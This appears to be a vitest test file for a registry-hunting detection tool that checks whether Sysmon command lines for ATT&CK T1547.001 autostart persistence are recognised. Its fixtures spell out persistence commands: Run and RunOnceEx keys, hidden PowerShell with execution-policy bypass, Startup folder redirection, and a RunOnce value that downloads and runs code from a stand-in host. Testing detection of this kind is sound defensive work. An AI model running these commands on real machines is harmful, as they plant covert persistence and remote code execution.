/** The autostart tests of T1547.001 as a test runner starts them, quotes escaped, with nothing logged but the process creation. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { huntFiles } from './hunt-files.ts';

const KEY = 'Software\\Microsoft\\Windows\\CurrentVersion';
const MENU = 'Microsoft\\Windows\\Start Menu\\Programs\\Startup';
const OWN = `?:\\users\\*\\appdata\\roaming\\${MENU.toLowerCase()}`;
const ALL = `c:\\programdata\\${MENU.toLowerCase()}`;
const TESTS = 'C:\\tests\\T1547.001';
const FOLDERS = `${KEY}\\Explorer\\User Shell Folders`;

const cmd = (line: string) => ({ image: 'cmd.exe', line: `"cmd.exe" /c ${line}` });
/** `¦` stands for a quote of the code. */
const powershell = (code: string) => ({
  image: 'WindowsPowerShell\\v1.0\\powershell.exe',
  line: `"powershell.exe" & {${code.replaceAll('¦', '\\""')}}`,
});
const copied = (name: string) =>
  powershell(
    `Copy-Item ¦${TESTS}\\${name}¦ ¦$env:APPDATA\\${MENU}\\${name}¦\nCopy-Item ¦${TESTS}\\${name}¦ ¦C:\\ProgramData\\${MENU}\\${name}¦\ncscript.exe ¦$env:APPDATA\\${MENU}\\${name}¦`,
  );
const moved = (hive: string, name: string) =>
  powershell(
    `New-Item -ItemType Directory -path ¦$env:TMP\\other\\¦\nCopy-Item -path ¦C:\\Windows\\System32\\calc.exe¦ -destination ¦$env:TMP\\other\\¦\nSet-ItemProperty -Path  ¦${hive}:\\${FOLDERS}¦ -Name ¦${name}¦ -Value ¦$env:TMP\\other\\¦`,
  );
const policy = (hive: string) =>
  powershell(
    `if (!(Test-Path -Path ¦${hive}:\\${KEY}\\Policies\\Explorer\\Run¦)){\n  New-Item -ItemType Key -Path  ¦${hive}:\\${KEY}\\Policies\\Explorer\\Run¦\n}\nSet-ItemProperty -Path  ¦${hive}:\\${KEY}\\Policies\\Explorer\\Run¦ -Name ¦told¦ -Value ¦C:\\Windows\\System32\\calc.exe¦`,
  );

/** Name, command, and what it sets or writes with what that starts. The thirteenth names a template only. */
const COMMANDS: readonly (readonly [
  string,
  { image: string; line: string },
  readonly (readonly string[])[],
])[] = [
  [
    'a Run value by reg.exe',
    cmd(
      `REG ADD "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /V "Told" /t REG_SZ /F /D "${TESTS}\\told.exe"`,
    ),
    [['HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Told', `${TESTS}\\told.exe`]],
  ],
  [
    'a RunOnceEx library by reg.exe',
    cmd(
      `REG ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend /v 1 /d "${TESTS}\\told.dll"`,
    ),
    [
      [
        'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend\\1',
        `${TESTS}\\told.dll`,
      ],
    ],
  ],
  [
    'a RunOnce value with code in quotes',
    powershell(
      `$k = ¦HKLM:\\${KEY}\\RunOnce¦\nset-itemproperty $k ¦Next¦ 'powershell.exe ¦IEX (New-Object Net.WebClient).DownloadString(\`¦https://told.example/a.bat\`¦)¦'`,
    ),
    [
      [
        `HKLM\\${KEY}\\RunOnce\\Next`,
        'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://told.example/a.bat`")"',
      ],
    ],
  ],
  ...['told.vbs', 'told.jse', 'told.bat'].map(
    (name) =>
      [`${name} in both Startup folders`, copied(name), [[`${OWN}\\${name}`], [`${ALL}\\${name}`]]] as const,
  ),
  [
    'a shortcut in a Startup folder',
    powershell(
      `$t = ¦C:\\Windows\\System32\\calc.exe¦\n$l = ¦$home\\AppData\\Roaming\\${MENU}\\told.lnk¦\n$s = New-Object -ComObject WScript.Shell\n$c = $s.CreateShortcut($l)\n$c.TargetPath = $t\n$c.Save()`,
    ),
    [[`${OWN}\\told.lnk`]],
  ],
  [
    'a script that PowerShell runs hidden',
    powershell(
      `$k = ¦HKCU:\\${KEY}\\Run¦\nSet-ItemProperty -Path $k -Name ¦told_powershell¦ -Value ¦powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File C:\\t\\told.ps1¦`,
    ),
    [
      [
        `HKCU\\${KEY}\\Run\\told_powershell`,
        'powershell.exe -windowstyle hidden -ExecutionPolicy Bypass -File C:\\t\\told.ps1',
      ],
    ],
  ],
  [
    'the Startup folder of all users moved',
    moved('HKLM', 'Common Startup'),
    [[`HKLM\\${FOLDERS}\\Common Startup`, '$env:TMP\\other\\']],
  ],
  [
    'the Startup folder of a user moved',
    moved('HKCU', 'Startup'),
    [[`HKCU\\${FOLDERS}\\Startup`, '$env:TMP\\other\\']],
  ],
  [
    'the policy of a user',
    policy('HKCU'),
    [[`HKCU\\${KEY}\\Policies\\Explorer\\Run\\told`, 'C:\\Windows\\System32\\calc.exe']],
  ],
  [
    'the policy of the machine',
    policy('HKLM'),
    [[`HKLM\\${KEY}\\Policies\\Explorer\\Run\\told`, 'C:\\Windows\\System32\\calc.exe']],
  ],
];

const folder = mkdtempSync(join(tmpdir(), 'reghunt-quoted-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const file = join(folder, 'commands.ndjson');
writeFileSync(
  file,
  COMMANDS.map(([, { image, line }], at) =>
    JSON.stringify({
      SourceName: 'Microsoft-Windows-Sysmon',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Hostname: `ws-${at}`,
      UtcTime: '2026-03-02 09:00:00.000',
      ProcessGuid: '{5A1C0C52-6D2B-4E57-9F0E-000000000001}',
      Image: `C:\\Windows\\System32\\${image}`,
      CommandLine: line,
    }),
  ).join('\n'),
);
const findings = (await huntFiles([file])).filter(({ reghunt }) => reghunt.finding.kind === 'autostart');

function within(part: unknown, name: string): unknown {
  return typeof part === 'object' && part !== null ? (part as Record<string, unknown>)[name] : undefined;
}

it.each(COMMANDS.map(([name, , acts], at) => [name, at, acts] as const))(
  '%s is told by its command line, each act once',
  (_name, at, acts) => {
    const told = findings
      .filter(({ reghunt: { source } }) => source.kind === 'file' && source.line === at + 1)
      .map(({ registry, file: written }) => {
        const path = within(registry, 'path');
        return path === undefined
          ? [within(written, 'path')]
          : [path, within(within(within(registry, 'data'), 'strings'), '0')];
      });
    expect(told.sort()).toEqual([...acts].sort());
  },
);
